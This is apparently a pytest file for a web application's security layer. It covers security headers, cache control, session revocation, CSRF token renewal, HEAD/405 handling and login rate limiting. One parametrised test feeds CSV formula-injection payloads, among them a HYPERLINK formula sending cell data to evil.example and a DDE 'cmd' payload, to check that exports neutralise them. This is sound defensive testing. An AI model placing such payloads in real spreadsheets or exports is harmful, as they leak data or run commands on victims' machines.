"""The web edge: security headers on every answer, no browser copies of pages and API answers,
spreadsheet-safe CSV cells, sessions that end at sign-out, a CSRF token renewed at sign-in, HEAD that
answers like GET, and 405 answers that say what is allowed."""
import csv
import io
from dataclasses import replace

import pytest

from engine.identity import accounts, tokens
from tests.conftest import add_user, settings_for
from tests.web.conftest import signed_in
from tests.web.test_login_inbox import csrf_token, login
from tests.web.test_register import record

PASSWORD = "correct horse battery"


@pytest.mark.parametrize("path", ["/login", "/static/app.css", "/api/v1/openapi.json", "/api/v1/instances",
                                  "/no-such-page", "/inbox"])
def test_every_answer_carries_the_security_headers(app, path):
    headers = app.test_client().get(path).headers
    policy = headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy and "default-src 'self'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"


def test_pages_carry_no_inline_script(app, db, clock, at_gate4):
    hub = signed_in(app, "hana.hub")
    for path in ("/inbox", f"/projects/{at_gate4}", "/dashboard", "/register", "/processes"):
        page = hub.get(path).get_data(as_text=True)
        for script in page.split("<script")[1:]:
            opening = script.split(">")[0]
            assert "src=" in opening or 'type="application/json"' in opening, (path, opening)
        assert " onclick=" not in page and " onload=" not in page and "javascript:" not in page


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(1+1)"])
def test_a_formula_typed_into_the_register_comes_out_of_the_csv_as_text(app, at_gate4, title):
    hub = signed_in(app, "hana.hub")
    assert record(hub, title=title, contact="=1+1").status_code == 302
    rows = list(csv.reader(io.StringIO(hub.get("/register.csv?source=hand").data.decode("utf-8"))))
    header, row = rows[0], rows[1]
    assert row[header.index("Title")] == "'" + title
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_405_says_which_methods_are_allowed(app):
    page = app.test_client().get("/logout")
    assert page.status_code == 405 and set(page.headers["Allow"].split(", ")) == {"OPTIONS", "POST"}
    api = app.test_client().delete("/api/v1/instances")
    assert api.status_code == 405 and set(api.headers["Allow"].split(", ")) >= {"GET", "POST"}
    assert api.json["error"]["code"] == "method_not_allowed"


def _sign_out(client):
    token = csrf_token(client.get("/inbox").data)
    assert client.post("/logout", data={"csrf_token": token}).status_code == 302


def test_a_session_cookie_copied_before_sign_out_no_longer_works_after_it(app, db, clock):
    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
    client = app.test_client()
    assert login(client, "sam", PASSWORD).status_code == 302
    stolen = client.get_cookie("session").value
    thief = app.test_client()
    thief.set_cookie("session", stolen)
    assert thief.get("/inbox").status_code == 200  # a copy works while the session holds
    _sign_out(client)
    replay = thief.get("/inbox")
    assert replay.status_code == 302 and "/login" in replay.location


def test_disabling_a_user_ends_their_sessions_for_good(app, db, clock):
    add_user(db, clock, "ada", "admin", password=PASSWORD)
    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
    sam = app.test_client()
    assert login(sam, "sam", PASSWORD).status_code == 302
    with db.reading() as s:
        ada = accounts.require_user(s, "ada")
    db.writing(lambda s: accounts.set_active(s, "sam", active=False, actor=ada, clock=clock))
    assert sam.get("/inbox").status_code == 302
    db.writing(lambda s: accounts.set_active(s, "sam", active=True, actor=ada, clock=clock))
    assert sam.get("/inbox").status_code == 302  # enabled again, they sign in afresh


def test_a_csrf_token_from_before_sign_in_is_refused_after_it(app, db, clock):
    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
    client = app.test_client()
    before = csrf_token(client.get("/login").data)  # what a planted or shared pre-sign-in cookie holds
    assert client.post("/login", data={"username": "sam", "password": PASSWORD, "csrf_token": before}
                       ).status_code == 302
    assert client.post("/logout", data={"csrf_token": before}).status_code == 400
    assert client.get("/inbox").status_code == 200  # still signed in
    _sign_out(client)


def test_sessions_are_stored_server_side_and_revoked_at_sign_out(app, db, clock):
    from sqlalchemy import select

    from engine.store.models import SignInSession
    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
    client = app.test_client()
    login(client, "sam", PASSWORD)
    with db.reading() as s:
        rows = list(s.scalars(select(SignInSession)))
    assert len(rows) == 1 and rows[0].revoked_at is None
    assert rows[0].token_hash not in client.get_cookie("session").value
    _sign_out(client)
    with db.reading() as s:
        assert s.scalars(select(SignInSession)).one().revoked_at is not None


def test_over_https_browsers_are_told_to_keep_to_it(db, clock):
    from web import create_app
    plain = create_app(settings_for(db), clock=clock, testing=True)
    assert "Strict-Transport-Security" not in plain.test_client().get("/login").headers
    secure = create_app(replace(settings_for(db), secure_cookies=True), clock=clock, testing=True)
    assert secure.test_client().get("/login").headers["Strict-Transport-Security"] == "max-age=31536000"


def test_one_persons_bad_passwords_lock_out_no_one_else_behind_the_same_address(app, db, clock):
    add_user(db, clock, "kim", "sponsor", password=PASSWORD)
    add_user(db, clock, "sam", "sponsor", password=PASSWORD)
    trust = app.test_client()  # every test client signs in from 127.0.0.1, as a trust's staff behind its NAT
    for _ in range(5):
        assert login(trust, "kim", "wrong").status_code == 401
    assert login(trust, "kim", PASSWORD).status_code == 429
    assert login(app.test_client(), "sam", PASSWORD).status_code == 302


def _api(db, clock, app, username):
    token = db.writing(lambda s: tokens.create_token(s, username=username, actor="test", clock=clock))
    client = app.test_client()
    return lambda path, method="GET": client.open(f"/api/v1{path}", method=method,
                                                  headers={"Authorization": f"Bearer {token}"})


def test_pages_and_api_answers_are_not_kept_by_the_browser_but_static_files_are(app, db, clock, at_gate4):
    hub = signed_in(app, "hana.hub")
    for path in ("/inbox", f"/projects/{at_gate4}", f"/projects/{at_gate4}/history", "/dashboard", "/register",
                 "/register.csv", "/projects/999999", "/login"):
        answer = hub.get(path)
        assert answer.headers.get("Cache-Control") == "no-store", (path, answer.status_code)
    api = _api(db, clock, app, "hana.hub")
    for path in ("/instances", f"/instances/{at_gate4}", f"/instances/{at_gate4}/events", "/tasks",
                 "/instances/999999"):
        answer = api(path)
        assert answer.headers.get("Cache-Control") == "no-store", (path, answer.status_code)
    assert app.test_client().get("/login").headers.get("Cache-Control") == "no-store"
    static = hub.get("/static/app.css")
    assert static.status_code == 200 and "no-store" not in static.headers.get("Cache-Control", "")
    assert static.headers.get("ETag")  # still revalidated and reused


def test_head_answers_like_get_without_a_body_on_every_route(app, db, clock):
    add_user(db, clock, "ada", "admin", "hub_team", "process_owner", "auditor", password=PASSWORD)
    admin = app.test_client()
    assert login(admin, "ada", PASSWORD).status_code == 302
    paths = [rule.rule for rule in app.url_map.iter_rules() if "GET" in rule.methods and not rule.arguments]
    assert "/login" in paths
    for client in (app.test_client(), admin):
        for path in [*paths, "/static/app.css"]:
            get, head = client.get(path), client.head(path)
            assert (path, head.status_code, head.data) == (path, get.status_code, b"")
            assert head.headers.get("Content-Type") == get.headers.get("Content-Type"), path


def test_head_answers_like_get_for_a_signed_in_user(app, db, clock, at_gate4):
    hub = signed_in(app, "hana.hub")
    for path in ("/login", "/inbox", f"/projects/{at_gate4}", "/dashboard", "/register", "/register/past/new",
                 "/projects/999999"):
        get, head = hub.get(path), hub.head(path)
        assert (path, head.status_code, head.data) == (path, get.status_code, b"")
    api = _api(db, clock, app, "hana.hub")
    for path in ("/instances", f"/instances/{at_gate4}", "/instances/999999"):
        get, head = api(path), api(path, method="HEAD")
        assert (path, head.status_code, head.data) == (path, get.status_code, b"")


def test_head_on_a_delete_confirmation_deletes_nothing(app, db, clock):
    from tests.web.test_modeller import client_for, drafts_count, upload
    owner = client_for(app, db, clock)
    draft_id = int(upload(owner).location.split("/")[-1])
    assert owner.head(f"/modeller/drafts/{draft_id}/delete").status_code == 200
    assert drafts_count(db) == 1


def test_the_admin_pages_refuse_an_organisation_name_holding_the_policy_separator(app, db, clock):
    from tests.web.test_admin import admin_client, post_form
    add_user(db, clock, "ivy", "industry_partner", org="Medtech")
    admin = admin_client(app, db, clock)
    for path, data in (("/admin/users/new", {"username": "pat", "display_name": "Pat", "password": PASSWORD}),
                       ("/admin/users/ivy", {})):
        refused = post_form(admin, path, {**data, "roles": ["industry_partner"], "organisation": "Medtech|DataHealth"})
        page = refused.data.decode()
        assert refused.status_code == 400 and "There is a problem" in page, path
        assert "cannot contain “|”" in page or "Remove “|”" in page
    with db.reading() as s:
        assert accounts.get_user(s, "pat") is None
        assert accounts.require_user(s, "ivy").organisation_name == "Medtech"


@pytest.mark.parametrize("hops, recorded", [(0, "127.0.0.1"), (1, "203.0.113.7")])
def test_sign_ins_are_counted_by_the_client_address_a_trusted_proxy_names(db, clock, hops, recorded):
    from sqlalchemy import select

    from engine.store.models import AuditEvent
    from web import create_app
    app = create_app(replace(settings_for(db), proxy_hops=hops), clock=clock, testing=True)
    client = app.test_client()
    page = client.get("/login").data
    client.post("/login", data={"username": "nobody", "password": "wrong password", "csrf_token": csrf_token(page)},
                headers={"X-Forwarded-For": "203.0.113.7"})
    with db.reading() as s:
        failed = s.scalars(select(AuditEvent).where(AuditEvent.kind == "login_failed")).one()
    assert f'"address":"{recorded}"' in failed.data_json.replace(" ", "")
